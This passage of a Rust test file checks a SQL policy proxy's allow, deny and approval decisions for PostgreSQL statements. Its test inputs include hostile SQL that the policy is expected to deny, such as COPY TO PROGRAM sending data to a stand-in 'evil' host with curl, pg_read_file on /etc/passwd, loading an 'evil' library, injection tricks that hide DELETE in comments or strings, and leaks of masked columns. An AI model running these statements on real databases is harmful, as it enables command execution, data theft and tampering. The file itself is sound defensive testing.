                "builtin/copy-server-file",
            ),
            ("COPY t FROM PROGRAM 'id'", Deny, "builtin/copy-program"),
            (
                "COPY t TO PROGRAM 'curl -d @- evil'",
                Deny,
                "builtin/copy-program",
            ),
            ("copy t to stdout", Allow, "t/default"),
            ("COPY t FROM STDIN", Allow, "t/default"),
            // LOAD
            ("LOAD 'plpgsql'", Deny, "builtin/load"),
            ("LOAD '$libdir/plugins/evil'", Deny, "builtin/load"),
            // Unparseable
            ("SELEC 1", Deny, "builtin/parse-error"),
            ("SELECT 1 SELECT 2", Deny, "builtin/parse-error"),
            ("SELECT (1", Deny, "builtin/parse-error"),
            ("SELECT 'unterminated", Deny, "builtin/parse-error"),
            ("CHECKPOINT", Deny, "builtin/parse-error"),
            ("ALTER SYSTEM SET fsync = off", Deny, "builtin/parse-error"),
            ("REFRESH MATERIALIZED VIEW v", Deny, "builtin/parse-error"),
            ("TABLE users", Deny, "builtin/parse-error"),
            ("DO 1", Deny, "builtin/parse-error"),
            ("DO $$ a $$ $$ b $$", Deny, "builtin/parse-error"),
            ("SELECT 1; SELEC 2", Deny, "builtin/parse-error"),
        ],
    );
    let d = p.decide("SELECT pg_read_file('/etc/passwd')");
    assert_eq!(
        d.reason,
        "builtin rule dangerous-function: pg_read_file() is denied: it reads files on the database server"
    );
    let d = p.decide("SELEC 1");
    assert!(
        d.reason.starts_with("builtin rule parse-error: the statement cannot be parsed, so it is denied: sql parser error: Expected"),
        "{}",
        d.reason
    );
}

#[test]
fn allow_functions_and_settings_opt_out() {
    let p = policy(
        "[policy]\nname = \"t\"\ndefault = \"allow\"\nallow_functions = [\"dblink\", \"set_config\"]\nallow_settings = [\"app.tenant\"]\n",
    );
    run_table(
        &p,
        &[
            ("SELECT dblink('x', 'y')", Allow, "t/default"),
            (
                "SELECT dblink_exec('x', 'y')",
                Deny,
                "builtin/dangerous-function",
            ),
            ("SELECT set_config('role', 'x', false)", Allow, "t/default"),
            ("SET app.tenant = '1'", Allow, "t/default"),
            ("SET app.other = '1'", Deny, "builtin/security-setting"),
            (
                "SELECT pg_read_file('x')",
                Deny,
                "builtin/dangerous-function",
            ),
        ],
    );
}

#[test]
fn evasion_table() {
    let p = shipped(READONLY);
    run_table(
        &p,
        &[
            // Comments and whitespace.
            ("/* */ DELETE FROM t", Deny, "pg-readonly/default"),
            ("/* SELECT */ DELETE FROM t", Deny, "pg-readonly/default"),
            ("-- SELECT\nDELETE FROM t", Deny, "pg-readonly/default"),
            ("SELECT 1; -- x\rDELETE FROM t", Deny, "pg-readonly/default"),
            (
                "SELECT 1 /* nested /* comment */ still */ ; DELETE FROM t",
                Deny,
                "pg-readonly/default",
            ),
            (
                "SELECT 1 /* /* */ DELETE FROM t; */",
                Allow,
                "pg-readonly/read",
            ),
            ("SELECT 1 /* unterminated", Deny, "builtin/parse-error"),
            ("\n\n\tDELETE\n\tFROM\n\tt", Deny, "pg-readonly/default"),
            ("SELECT 1;\n\n;DELETE FROM t;", Deny, "pg-readonly/default"),
            ("SELECT 1;\x0bDELETE FROM t", Deny, "pg-readonly/default"),
            // Case.
            ("dElEtE fRoM t", Deny, "pg-readonly/default"),
            ("SeLeCt 1", Allow, "pg-readonly/read"),
            // Quoting.
            ("SELECT * FROM \"users\"", Allow, "pg-readonly/read"),
            ("SELECT 'DELETE FROM t'", Allow, "pg-readonly/read"),
            ("SELECT 'a''; DELETE FROM t; --'", Allow, "pg-readonly/read"),
            // Standard strings: the backslash does not escape, so DELETE is a statement.
            (
                "SELECT 'a\\'; DELETE FROM t; --'",
                Deny,
                "pg-readonly/default",
            ),
            (
                "SELECT E'a\\'; DELETE FROM t; --'",
                Allow,
                "pg-readonly/read",
            ),
            ("SELECT $$ ; DELETE FROM t; $$", Allow, "pg-readonly/read"),
            (
                "SELECT $tag$ ; DELETE FROM t; $tag$",
                Allow,
                "pg-readonly/read",
            ),
            (
                "SELECT $a$ $b$ ; DELETE FROM t; $b$ $a$",
                Allow,
                "pg-readonly/read",
            ),
            (
                "SELECT a$b$ FROM t; DELETE FROM t; SELECT 1 AS x$b$",
                Deny,
                "pg-readonly/default",
            ),
            ("SELECT $a$ unterminated", Deny, "builtin/parse-error"),
            (
                "SELECT U&\"pg\\005fread_file\"('x')",
                Deny,
                "builtin/parse-error",
            ),
            ("SELECT u&\"d\\0061ta\" FROM t", Deny, "builtin/parse-error"),
            ("SELECT U & \"x\" FROM t", Deny, "builtin/parse-error"),
            ("SELECT U&'\\0041'", Allow, "pg-readonly/read"),
            (
                "SELECT U&'r!006fle' UESCAPE '!'",
                Deny,
                "builtin/parse-error",
            ),
            ("SELECT \"PG_READ_FILE\"('x')", Allow, "pg-readonly/read"),
            (
                "SELECT \"pg_read_file\"('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            // Multi-statement.
            ("SELECT 1; DROP TABLE x", Deny, "pg-readonly/default"),
            ("SELECT 1;DROP TABLE x;", Deny, "pg-readonly/default"),
            ("BEGIN; DELETE FROM t; COMMIT", Deny, "pg-readonly/default"),
            (
                "SELECT 1; SELECT pg_sleep(1); SELECT pg_read_file('x')",
                Deny,
                "builtin/dangerous-function",
            ),
            // Empty statements.
            (";;;", Allow, "builtin/empty-query"),
            (";SELECT 1;;", Allow, "pg-readonly/read"),
            ("  \n -- only a comment", Allow, "builtin/empty-query"),
            // Data-modifying CTEs in every position.
            (
                "WITH d AS (DELETE FROM t RETURNING id) SELECT * FROM d",
                Deny,
                "pg-readonly/default",
            ),
            (
                "WITH a AS (SELECT 1), d AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1",
                Deny,
                "pg-readonly/default",
            ),
            (
                "SELECT * FROM (WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d) s",
                Deny,
                "pg-readonly/default",
            ),
            (
                "SELECT (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM d)",
                Deny,
                "pg-readonly/default",
            ),
            (
                "WITH RECURSIVE d AS (DELETE FROM t RETURNING *) SELECT 1",
                Deny,
                "pg-readonly/default",
            ),
            (
                "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT 1",
                Deny,
                "pg-readonly/default",
            ),
            (
                "EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT 1",
                Allow,
                "pg-readonly/read",
            ),
            // Writes that look like reads.
            ("SELECT * INTO backup FROM t", Deny, "pg-readonly/default"),
            ("SELECT 1 INTO TEMP x", Deny, "pg-readonly/default"),
            (
                "CREATE TEMP TABLE x AS SELECT 1",
                Deny,
                "pg-readonly/default",
            ),
            ("EXPLAIN ANALYZE DELETE FROM t", Deny, "pg-readonly/default"),
            (
                "EXPLAIN (ANALYZE TRUE, VERBOSE) UPDATE t SET a = 1",
                Deny,
                "pg-readonly/default",
            ),
            (
                "EXPLAIN (FORMAT JSON, ANALYZE) INSERT INTO t VALUES (1)",
                Deny,
                "pg-readonly/default",
            ),
            ("PREPARE p AS DELETE FROM t", Deny, "pg-readonly/default"),
            ("EXECUTE p", Deny, "pg-readonly/default"),
            (
                "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
                Deny,
                "pg-readonly/default",
            ),
            (
                "do language plpgsql $x$ begin perform 1; end $x$",
                Deny,
                "pg-readonly/default",
            ),
            ("COPY t FROM STDIN", Deny, "pg-readonly/default"),
            (
                "COPY (DELETE FROM t RETURNING *) TO STDOUT",
                Deny,
                "pg-readonly/default",
            ),
            // Nesting: denied, never a crash.
            ("SELECT ((((((((((1))))))))))", Allow, "pg-readonly/read"),
        ],
    );
}

#[test]
fn rule_semantics_table() {
    let p = policy(
        r#"
[policy]
name = "t"
default = "deny"

[[rule]]
name = "no-secret"
action = "deny"
tables = ["secret.*", "public.salaries"]

[[rule]]
name = "no-sleep"
action = "deny"
functions = ["pg_sleep*"]

[[rule]]
name = "approve-big-delete"
action = "approve"
kinds = ["delete"]
without_where = true

[[rule]]
name = "public-reads"
action = "allow"
kinds = ["select"]
tables = ["public.*"]

[[rule]]
name = "deletes"
action = "allow"
kinds = ["delete"]

[[rule]]
name = "prepares"
action = "allow"
kinds = ["prepare", "execute"]
"#,
    );
    run_table(
        &p,
        &[
            ("SELECT 1", Allow, "t/public-reads"),
            ("SELECT * FROM orders", Allow, "t/public-reads"),
            (
                "SELECT * FROM public.orders o JOIN public.items i ON o.id = i.oid",
                Allow,
                "t/public-reads",
            ),
            // An allow needs every table to match.
            (
                "SELECT * FROM orders JOIN crm.contacts c ON true",
                Deny,
                "t/default",
            ),
            ("SELECT * FROM crm.contacts", Deny, "t/default"),
            // A deny needs one.
            ("SELECT * FROM orders, secret.keys", Deny, "t/no-secret"),
            ("SELECT * FROM salaries", Deny, "t/no-secret"),
            ("SELECT * FROM SALARIES", Deny, "t/no-secret"),
            ("SELECT * FROM \"salaries\"", Deny, "t/no-secret"),
            ("SELECT (SELECT max(x) FROM secret.k)", Deny, "t/no-secret"),
            (
                "SELECT * FROM orders WHERE id IN (SELECT id FROM salaries)",
                Deny,
                "t/no-secret",
            ),
            (
                "WITH s AS (SELECT * FROM salaries) SELECT * FROM s",
                Deny,
                "t/no-secret",
            ),
            (
                "SELECT 1 UNION SELECT amount FROM salaries",
                Deny,
                "t/no-secret",
            ),
            (
                "WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries",
                Deny,
                "t/no-secret",
            ),
            (
                "DELETE FROM orders USING salaries WHERE orders.id = salaries.id",
                Deny,
                "t/no-secret",
            ),
            // A quoted name with other case is another table in PostgreSQL.
            ("SELECT * FROM \"Salaries\"", Allow, "t/public-reads"),
            // A CTE named like a table is not that table.
            (
                "WITH salaries AS (SELECT 1) SELECT * FROM salaries",
                Allow,
                "t/public-reads",
            ),
            ("SELECT pg_sleep(10)", Deny, "t/no-sleep"),
            (
                "SELECT * FROM orders WHERE pg_sleep_for('1 minute') IS NULL",
                Deny,
                "t/no-sleep",
            ),
            (
                "SELECT 1 FROM orders ORDER BY (SELECT pg_sleep(1))",
                Deny,
                "t/no-sleep",
            ),
            ("DELETE FROM orders WHERE id = 1", Allow, "t/deletes"),
            ("DELETE FROM orders", Approve, "t/approve-big-delete"),
            ("TRUNCATE orders", Approve, "t/approve-big-delete"),
            // Strictest of several statements wins: deny > approve > allow.
            (
                "SELECT 1; DELETE FROM orders",
                Approve,
                "t/approve-big-delete",
            ),
            ("DELETE FROM orders; SELECT pg_sleep(1)", Deny, "t/no-sleep"),
            ("INSERT INTO orders VALUES (1)", Deny, "t/default"),
            // What SQL PREPARE prepares is decided as if run; one that
            // needs approval cannot be prepared (EXECUTE would run it unheld).
            (
                "PREPARE d AS DELETE FROM orders WHERE id = $1",
                Allow,
                "t/prepares",
            ),
            (
                "PREPARE d AS DELETE FROM orders",
                Deny,
                "builtin/prepare-needs-approval",
            ),
            (
                "prepare d (int) as delete from orders returning $1",
                Deny,
                "builtin/prepare-needs-approval",
            ),
            ("EXECUTE d(1)", Allow, "t/prepares"),
        ],
    );
    assert!(
        p.decide("PREPARE d AS DELETE FROM orders")
            .reason
            .contains("rule `t/approve-big-delete`"),
        "{}",
        p.decide("PREPARE d AS DELETE FROM orders").reason
    );
    assert_eq!(
        p.decide("SELECT * FROM orders, secret.keys").reason,
        "policy t rule no-secret: statement kind select on secret.keys is denied"
    );
    assert_eq!(
        p.decide("SELECT pg_sleep(10)").reason,
        "policy t rule no-sleep: statement kind select calling pg_sleep() is denied"
    );
    assert_eq!(
        p.decide("DELETE FROM orders").reason,
        "policy t rule approve-big-delete: statement kind delete without a WHERE clause needs approval"
    );
}

#[test]
fn masked_expression_table() {
    let p = masking();
    let m = "builtin/masked-expression";
    run_table(
        &p,
        &[
            // Plain references: the proxy masks them by column.
            ("SELECT email FROM users", Allow, "t/"),
            ("SELECT users.email FROM users", Allow, "t/"),
            ("SELECT u.email AS e FROM users u", Allow, "t/"),
            ("SELECT u.email e, u.id FROM users u JOIN orders o ON o.uid = u.id", Allow, "t/"),
            ("SELECT (email) FROM users", Allow, "t/"),
            ("SELECT \"email\" FROM users", Allow, "t/"),
            ("SELECT * FROM users", Allow, "t/"),
            ("SELECT u.* FROM users u", Allow, "t/"),
            ("SELECT DISTINCT email FROM users", Allow, "t/"),
            ("SELECT email FROM users UNION SELECT email FROM old_users", Allow, "t/"),
            ("SELECT * FROM (SELECT email FROM users) s", Allow, "t/"),
            ("SELECT email FROM (SELECT email FROM users) s", Allow, "t/"),
            ("WITH c AS (SELECT email FROM users) SELECT email FROM c", Allow, "t/"),
            ("WITH c AS (SELECT * FROM users) SELECT * FROM c", Allow, "t/"),
            ("WITH RECURSIVE r AS (SELECT email FROM users UNION ALL SELECT email FROM r) SELECT email FROM r", Allow, "t/"),
            ("DELETE FROM users WHERE id = 1 RETURNING email", Allow, "t/"),
            ("DELETE FROM users WHERE id = 1 RETURNING email AS e", Allow, "t/"),
            ("DECLARE c CURSOR FOR SELECT email FROM users", Allow, "t/"),
            ("SELECT count(*) FROM users", Allow, "t/"),
            ("SELECT name FROM users", Allow, "t/"),
            ("SELECT upper(name), lower(city) FROM users", Allow, "t/"),
            // Predicates are not outputs (known limit: oracles).
            ("SELECT id FROM users WHERE email = 'a@b.c'", Allow, "t/"),
            ("SELECT id FROM users WHERE email LIKE '%@x.com' ORDER BY email", Allow, "t/"),
            ("SELECT id FROM users GROUP BY email, id HAVING count(email) > 1", Allow, "t/"),
            ("SELECT id FROM users u JOIN b ON b.email = u.email", Allow, "t/"),
            ("SELECT EXISTS (SELECT 1 FROM users WHERE email = $1)", Allow, "t/"),
            ("SELECT id, id IN (SELECT id FROM users WHERE email LIKE 'a%') FROM t", Allow, "t/"),
            ("UPDATE users SET name = 'x' WHERE email = 'a@b.c'", Allow, "t/"),
            ("UPDATE users SET email = lower(email) WHERE id = 1", Allow, "t/"),
            ("INSERT INTO users (email) VALUES ('a@b.c')", Allow, "t/"),
            ("INSERT INTO archive (email) SELECT email FROM users", Allow, "t/"),
            ("CREATE TABLE backup AS SELECT email FROM users", Allow, "t/"),
            // Expressions over a masked column in an output.
            ("SELECT upper(email) FROM users", Deny, m),
            ("SELECT lower(u.email) FROM users u", Deny, m),
            ("SELECT email::text FROM users", Deny, m),
            ("SELECT CAST(email AS varchar) FROM users", Deny, m),
            ("SELECT email || '' FROM users", Deny, m),
            ("SELECT 'x' || email FROM users", Deny, m),
            ("SELECT substr(email, 1, 3) AS e FROM users", Deny, m),
            ("SELECT split_part(email, '@', 2) FROM users", Deny, m),
            ("SELECT CASE WHEN true THEN email END FROM users", Deny, m),
            ("SELECT coalesce(email, '') FROM users", Deny, m),
            ("SELECT ROW(email) FROM users", Deny, m),
            ("SELECT (email, id) FROM users", Deny, m),
            ("SELECT ARRAY[email] FROM users", Deny, m),
            ("SELECT email COLLATE \"C\" FROM users", Deny, m),
            ("SELECT string_agg(email, ',') FROM users", Deny, m),
            ("SELECT array_agg(email) FROM users", Deny, m),
            ("SELECT json_agg(email) FROM users", Deny, m),
            ("SELECT jsonb_build_object('e', email) FROM users", Deny, m),
            ("SELECT count(email) FROM users", Deny, m),
            ("SELECT max(email) FROM users", Deny, m),
            ("SELECT (u).email FROM users u", Deny, m),
            ("SELECT (SELECT email FROM users LIMIT 1)", Deny, m),
            ("SELECT (SELECT email FROM users LIMIT 1) AS email", Deny, m),
            ("SELECT ARRAY(SELECT email FROM users)", Deny, m),
            ("SELECT id, md5(email) FROM users", Deny, m),
            ("SELECT row_number() OVER (ORDER BY email) FROM users", Deny, m),
            ("SELECT \"EMAIL\" || '' FROM users", Deny, m),
            ("SELECT EMAIL || '' FROM users", Deny, m),
            ("DELETE FROM users WHERE id = 1 RETURNING upper(email)", Deny, m),
            ("INSERT INTO users (email) VALUES ('x') RETURNING email || ''", Deny, m),
            ("SELECT * FROM (SELECT upper(email) AS e FROM users) s", Deny, m),
            ("WITH c AS (SELECT lower(email) AS e FROM users) SELECT e FROM c", Deny, m),
            ("WITH d AS (DELETE FROM users RETURNING email) SELECT upper(email) FROM d", Deny, m),
            ("SELECT x FROM users u, LATERAL unnest(ARRAY[u.email]) x", Deny, m),
            ("SELECT * FROM users u, LATERAL (SELECT upper(u.email)) s", Deny, m),
            ("SELECT * FROM (VALUES ((SELECT email FROM users LIMIT 1))) v(e)", Deny, m),
            ("SELECT pg_notify('c', email) FROM users", Deny, m),
            // Predicates are not masked, but a NOTIFY payload reaches the client.
            ("SELECT 1 FROM users WHERE pg_notify('c', email) IS NULL", Deny, m),
            ("SELECT 1 FROM users WHERE id IN (SELECT 1 WHERE pg_notify('c', name) IS NULL)", Deny, m),
            ("SELECT pg_notify('c', 'done')", Allow, "t/"),
            // Whole-row references.
            ("SELECT t FROM users t", Deny, m),
            ("SELECT users FROM users", Deny, m),
            ("SELECT row_to_json(u) FROM users u", Deny, m),
            ("SELECT to_json(u.*) FROM users u", Deny, m),
            ("SELECT to_jsonb(users) FROM users", Deny, m),
            ("SELECT json_agg(u) FROM users u", Deny, m),
            ("SELECT array_agg(u.*) FROM users u", Deny, m),
            ("SELECT u::text FROM users u", Deny, m),
            ("SELECT hstore(u) FROM users u", Deny, m),
            ("SELECT public.users FROM public.users", Deny, m),
            ("SELECT u.row_to_json FROM users u", Deny, m),
            ("SELECT u.to_jsonb AS j FROM users u", Deny, m),
            ("SELECT users.jsonb FROM users", Deny, m),
            ("SELECT lower(u.concat) FROM users u", Deny, m),
            ("SELECT u.format, u.id FROM users u", Deny, m),
            ("SELECT s FROM (SELECT * FROM users) s", Deny, m),
            ("SELECT (SELECT row_to_json(x) FROM users x LIMIT 1)", Deny, m),
            ("SELECT ARRAY(SELECT * FROM users)", Deny, m),
            // Renames where PostgreSQL loses the column's origin.
            ("SELECT * FROM (SELECT email AS x FROM users) s", Deny, m),
            ("SELECT upper(x) FROM (SELECT email AS x FROM users) s", Deny, m),
            ("WITH c AS (SELECT email AS x FROM users) SELECT x FROM c", Deny, m),
            ("WITH c AS (SELECT email FROM users) SELECT email AS x FROM c", Deny, m),
            ("WITH c(x) AS (SELECT email FROM users) SELECT x FROM c", Deny, m),
            ("SELECT * FROM (SELECT * FROM users) s(a, b, c)", Deny, m),
            ("SELECT c FROM users AS u(a, b, c)", Deny, m),
            ("SELECT name FROM customers UNION ALL SELECT email FROM users", Deny, m),
            ("SELECT 'x' AS a UNION ALL SELECT email FROM users", Deny, m),
            ("SELECT 1, 'x' UNION ALL SELECT * FROM users", Deny, m),
            ("SELECT email AS x FROM users UNION SELECT email FROM old_users", Deny, m),
            ("SELECT e FROM (SELECT email AS e FROM users UNION SELECT 'x') s", Deny, m),
            ("SELECT email AS x FROM (SELECT email FROM users UNION ALL SELECT email FROM b) s", Deny, m),
            ("SELECT email AS x FROM a FULL JOIN users USING (id)", Deny, m),
            ("WITH d AS (DELETE FROM users RETURNING email AS x) SELECT x FROM d", Deny, m),
            ("SELECT * FROM users u, LATERAL (SELECT u.email AS x) s", Deny, m),
            // Copies into columns that are not masked.
            ("INSERT INTO t2 (x) SELECT email FROM users", Deny, m),
            ("INSERT INTO t2 SELECT email FROM users", Deny, m),
            ("INSERT INTO t2 SELECT * FROM users", Deny, m),
            ("INSERT INTO t2 (x) VALUES ((SELECT email FROM users LIMIT 1))", Deny, m),
            ("UPDATE t2 SET x = (SELECT email FROM users WHERE users.id = t2.id)", Deny, m),
            ("UPDATE t2 SET x = u.email FROM users u WHERE u.id = t2.id", Deny, m),
            ("UPDATE t2 SET (x, y) = (SELECT email, 1 FROM users LIMIT 1)", Deny, m),
            ("INSERT INTO t2 (x) VALUES ('a') ON CONFLICT (x) DO UPDATE SET x = excluded.email", Deny, m),
            ("CREATE TABLE t2 AS SELECT email AS x FROM users", Deny, m),
            ("CREATE TABLE t2 AS SELECT * FROM users", Deny, m),
            ("CREATE VIEW v (x) AS SELECT email FROM users", Deny, m),
            ("SELECT email AS x INTO t2 FROM users", Deny, m),
            ("COPY (SELECT email FROM users) TO STDOUT", Deny, m),
            ("COPY (SELECT * FROM users) TO STDOUT", Deny, m),
            ("MERGE INTO t2 USING users u ON t2.id = u.id WHEN MATCHED THEN UPDATE SET x = u.email", Deny, m),
            ("MERGE INTO t2 USING users u ON t2.id = u.id WHEN NOT MATCHED THEN INSERT (x) VALUES (u.email)", Deny, m),
            ("CALL p((SELECT email FROM users LIMIT 1))", Deny, m),
            ("EXPLAIN SELECT upper(email) FROM users", Deny, m),
            ("PREPARE p AS SELECT upper(email) FROM users", Deny, m),
        ],
    );
    let d = p.decide("SELECT upper(email) FROM users");
    assert_eq!(
        d.reason,
        "builtin rule masked-expression: column email is masked, but the select list reads it through an expression, which masking cannot follow; select the column itself"
    );
    assert!(p
        .decide("SELECT row_to_json(u) FROM users u")
        .reason
        .contains("u is a whole-row reference"));
    // Without column rules nothing of this applies.
    let plain = permissive();
    for sql in [
        "SELECT upper(email) FROM users",
        "SELECT row_to_json(u) FROM users u",
        "INSERT INTO t2 SELECT * FROM users",
    ] {
        assert_eq!(plain.decide(sql).action, Allow, "{sql}");
    }
}

#[test]
fn masked_expression_table_specific_rule() {
    let p = policy(
        "[policy]\nname = \"t\"\ndefault = \"allow\"\n\n[[mask]]\ncolumn = \"users.email\"\nmode = \"redact\"\n",
    );
    run_table(
        &p,
        &[
            ("SELECT email FROM users", Allow, "t/"),
            (
                "UPDATE users SET email = lower(email) WHERE id = 1",
                Allow,
                "t/",
            ),
            // The bare name is enough to refuse an expression (the table is not resolved).
            (
                "SELECT upper(email) FROM contacts",
                Deny,
                "builtin/masked-expression",
            ),
            // archive.email is not masked by `users.email`.
            (
                "INSERT INTO archive (email) SELECT email FROM users",
                Deny,
                "builtin/masked-expression",
            ),
            (
                "UPDATE archive SET email = (SELECT email FROM users LIMIT 1)",
                Deny,
                "builtin/masked-expression",
            ),
        ],
    );
}

#[test]
fn copy_out_table() {
    let p = permissive();
    let t = |schema: &str, table: &str, columns: &[&str], format| CopyOut::Table {
        schema: schema.into(),
        table: table.into(),
        columns: columns.iter().map(|c| (*c).to_owned()).collect(),
        format,
    };
    let cases: Vec<(&str, Option<CopyOut>)> = vec![
        (
            "COPY users TO STDOUT",
            Some(t("public", "users", &[], CopyFormat::Text)),
        ),
        (
            "copy Users (ID, \"Email\") to stdout",
            Some(t("public", "users", &["id", "Email"], CopyFormat::Text)),
        ),
        (
            "COPY crm.contacts TO STDOUT WITH (FORMAT csv, HEADER true)",
            Some(t("crm", "contacts", &[], CopyFormat::Csv)),
        ),
        (
            "COPY users TO STDOUT (FORMAT binary)",
            Some(t("public", "users", &[], CopyFormat::Binary)),
        ),
        (
            "COPY users TO STDOUT (FORMAT text)",
            Some(t("public", "users", &[], CopyFormat::Text)),
        ),
        (
            "COPY users TO STDOUT WITH CSV HEADER",
            Some(t("public", "users", &[], CopyFormat::Csv)),
        ),
        (
            "COPY users TO STDOUT BINARY",
            Some(t("public", "users", &[], CopyFormat::Binary)),
        ),
        (
            "COPY (SELECT 1) TO STDOUT",
            Some(CopyOut::Query {
                format: CopyFormat::Text,
            }),
        ),
        (
            "COPY (SELECT 1) TO STDOUT (FORMAT csv)",
            Some(CopyOut::Query {
                format: CopyFormat::Csv,
            }),
        ),
        (
            "COPY users (address, ssn, note) TO STDOUT (FORMAT csv, DELIMITER '|')",
            Some(t(
                "public",
                "users",
                &["address", "ssn", "note"],
                CopyFormat::Reframed,
            )),
        ),
        (
            "COPY users TO STDOUT (FORMAT csv, QUOTE '''', HEADER true)",
            Some(t("public", "users", &[], CopyFormat::Reframed)),
        ),
        (
            "COPY users TO STDOUT (NULL 'x')",
            Some(t("public", "users", &[], CopyFormat::Reframed)),
        ),
        (
            "COPY users TO STDOUT (ENCODING 'SJIS')",
            Some(t("public", "users", &[], CopyFormat::Reframed)),
        ),
        (
            "COPY users TO STDOUT WITH DELIMITER '|'",
            Some(t("public", "users", &[], CopyFormat::Reframed)),
        ),
        (
            "COPY users TO STDOUT WITH CSV QUOTE '|'",
            Some(t("public", "users", &[], CopyFormat::Reframed)),
        ),
        (
            "COPY users TO STDOUT (FORMAT binary, DELIMITER '|')",
            Some(t("public", "users", &[], CopyFormat::Binary)),
        ),
        ("COPY users FROM STDIN", None),
        ("COPY users FROM STDIN (FORMAT csv)", None),
        ("SELECT 1", None),
    ];
    for (sql, want) in cases {
        let d = p.decide(sql);
        assert_eq!(d.action, Allow, "{sql}: {}", d.reason);
        assert_eq!(d.statements[0].copy_out, want, "{sql}");
    }
    let d = p.decide("COPY a TO STDOUT; SELECT 1; COPY b TO STDOUT");
    let outs: Vec<_> = d.statements.iter().map(|s| s.copy_out.is_some()).collect();
    assert_eq!(outs, [true, false, true]);
    assert_eq!(d.statements[1].kind, Kind::Select);
}

#[test]
fn placeholders_parse() {
    let p = shipped(APP);
    for sql in [
        "SELECT $1",
        "SELECT * FROM t WHERE a = $1 AND b = $2::int",
        "INSERT INTO t (a, b) VALUES ($1, $2)",
        "UPDATE t SET a = $1 WHERE id = $2",
        "DELETE FROM t WHERE id = ANY($1)",
        "SELECT * FROM t LIMIT $1 OFFSET $2",
        // pgbench
        "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
        "SELECT abalance FROM pgbench_accounts WHERE aid = $1;",
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP);",
    ] {
        let d = p.decide(sql);
        assert_eq!(d.action, Allow, "{sql}: {}", d.reason);
        assert_eq!(d.statements.len(), 1, "{sql}");
    }
}

#[test]
fn huge_and_deep_statements_are_denied_not_crashing() {
    // Run on a thread with the default 2 MiB stack of tokio workers.
    let handle = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(|| {
            let policies = [shipped(READONLY), permissive(), masking()];
            let deny = |sql: &str, rule: &str| {
                for p in &policies {
                    let d = p.decide(sql);
                    assert_eq!(
                        d.action,
                        Deny,
                        "{}...: {}",
                        &sql[..40.min(sql.len())],
                        d.reason
                    );
                    assert_eq!(d.rule, rule, "{}...", &sql[..40.min(sql.len())]);
                }
            };
            let n = 10_000;
            deny(
                &format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT {}1{}", "ARRAY[".repeat(n), "]".repeat(n)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT {}1{}", "f(".repeat(n), ")".repeat(n)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT * FROM {}t{}", "(".repeat(n), ")".repeat(n)),
                "builtin/too-complex",
            );
            // Below the lexical estimate, above the parser's recursion limit.
            deny(
                &format!("SELECT {}1{}", "(".repeat(100), ")".repeat(100)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT {}1{}", "(SELECT ".repeat(100), ")".repeat(100)),
                "builtin/too-complex",
            );
            // Iteratively built chains: would overflow the stack when dropped.
            let big = 100_000;
            deny(
                &format!("SELECT {}1", "1+".repeat(big)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT 1 WHERE {}true", "a=1 AND ".repeat(big / 4)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT 1{}", " UNION SELECT 1".repeat(big / 8)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT 1{}", "::int".repeat(big / 2)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT 1::int{}", "[]".repeat(big)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT a{}", "[1]".repeat(big / 3)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT a{}", "->'b'".repeat(big / 3)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT a{}", " IS NULL".repeat(big / 4)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT {}true", "NOT ".repeat(big / 2)),
                "builtin/too-complex",
            );
            deny(
                &format!("SELECT {}1", "- ".repeat(big / 2)),
                "builtin/too-complex",
            );
            // Over 1 MiB.
            deny(
                &format!("SELECT '{}'", "x".repeat(lex::MAX_SQL_BYTES)),
                "builtin/too-large",
            );
            deny(
                &format!(
                    "SELECT 1{}",
                    "; SELECT 1".repeat(lex::MAX_SQL_BYTES / 10 + 1)
                ),
                "builtin/too-large",
            );

            // Just under the estimate: parsed, walked and dropped on this small stack.
            let allow = |sql: &str| {
                for p in &policies[1..] {
                    let d = p.decide(sql);
                    assert_eq!(
                        d.action,
                        Allow,
                        "{}...: {}",
                        &sql[..40.min(sql.len())],
                        d.reason
                    );
                }
            };
            let k = lex::MAX_NESTING - 10;
            allow(&format!("SELECT {}1", "1+".repeat(k / 2)));
            allow(&format!(
                "SELECT 1 FROM t WHERE {}true",
                "a=1 AND ".repeat(k / 4)
            ));
            allow(&format!("SELECT 1{}", " UNION SELECT 1".repeat(k / 4)));
            allow(&format!("SELECT a{} FROM t", "::int".repeat(k / 3)));
            allow(&format!("SELECT 1::int{}", "[]".repeat(k / 2)));
            allow(&format!("SELECT a{} FROM t", "[1]".repeat(k / 4)));
            allow(&format!("SELECT a{} FROM t", "->'b'".repeat(k / 2)));
            allow(&format!(
                "SELECT {} FROM t",
                (0..k / 4).map(|_| "(a+1)").collect::<Vec<_>>().join("+")
            ));
            // Big but flat: a bulk insert and a long IN list are fine.
            let rows = vec!["(1, 'a', $1)"; 20_000].join(", ");
            allow(&format!("INSERT INTO t VALUES {rows}"));
            let list = vec!["1"; 100_000].join(",");
            allow(&format!("SELECT * FROM t WHERE id IN ({list})"));
            // Many statements in one message.
            allow(&"SELECT 1;".repeat(10_000));
        })
        .unwrap();
    handle.join().unwrap();
}

#[test]
fn file_errors_name_the_line() {
    // (file text, line, part of the message)
    let cases: &[(&str, usize, &str)] = &[
